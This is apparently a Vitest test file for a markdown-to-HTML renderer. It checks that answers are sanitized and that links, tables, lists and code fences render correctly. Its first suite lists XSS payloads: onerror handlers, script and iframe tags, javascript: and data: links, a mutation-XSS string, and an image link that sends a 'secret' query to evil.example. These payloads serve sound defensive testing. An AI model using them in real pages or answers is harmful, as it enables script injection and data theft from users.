import { describe, expect, it } from "vitest";
import { toBlocks } from "../src/markdown";

const html = (text: string): string =>
  toBlocks(text)
    .map((block) => (block.kind === "code" ? `[${block.language}]${block.text}` : block.html))
    .join("");

describe("what an answer may not do", () => {
  it.each([
    `<img src=x onerror="alert(1)">`,
    `<script>alert(1)</script>`,
    `<iframe src="https://evil.example"></iframe>`,
    `<style>*{display:none}</style>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `[x](javascript:alert(1))`,
    `[x](data:text/html,<script>alert(1)</script>)`,
    `[x](vbscript:x)`,
    `<javascript:alert(1)>`,
    `![x](https://evil.example/?q=secret)`,
    `![x](javascript:alert(1))`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">`,
    `- <img src=x onerror=alert(1)>`,
    `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
    "`<img src=x onerror=alert(1)>`",
    `<form action="https://evil.example"><input name=q></form>`,
    `[x]: javascript:alert(1)\n\n[x]`,
  ])("%s", (text) => {
    const page = document.createElement("div");
    page.innerHTML = html(text);
    expect(page.querySelector("img, script, iframe, style, svg, math, form, input, object, embed, link, meta")).toBeNull();
    for (const element of page.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|style|^src/);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      }
    }
  });
});

describe("what it shows", () => {
  it("leads links out safely", () => {
    expect(html("[a](https://a.example)")).toBe(
      '<p><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n',
    );
  });
  it("shows HTML as text", () => {
    expect(html("a <b>bold</b> move")).toContain("a &lt;b&gt;bold&lt;/b&gt; move");
  });
  it("names pictures and leaves them where they are", () => {
    expect(html("![a cat](https://a.example/cat.png)")).toContain('<a href="https://a.example/cat.png"');
  });
  it("treats a fence that is still open as code", () => {
    expect(toBlocks("So:\n\n```py\nprint(")).toMatchObject([{ kind: "html" }, { kind: "code", language: "py", text: "print(" }]);
  });
  it("keeps the alignment of tables", () => {
    const [block] = toBlocks("| a | b |\n|---|--:|\n| 1 | 2 |");
    expect(block).toMatchObject({ kind: "table" });
    expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toContain('<td align="right">2</td>');
  });
  it("keeps the number with which a list begins", () => {
    expect(html("3. c\n4. d")).toContain('<ol start="3">');
  });
  it("gives finished blocks back as they were", () => {
    const [before] = toBlocks("One.\n\nTw");
    const [after] = toBlocks("One.\n\nTwo");
    expect(after).toBe(before);
  });
  it("resolves a link that is defined later", () => {
    expect(html("See [it].")).not.toContain("href");
    expect(html("See [it].\n\n[it]: https://a.example")).toContain('href="https://a.example"');
  });
});
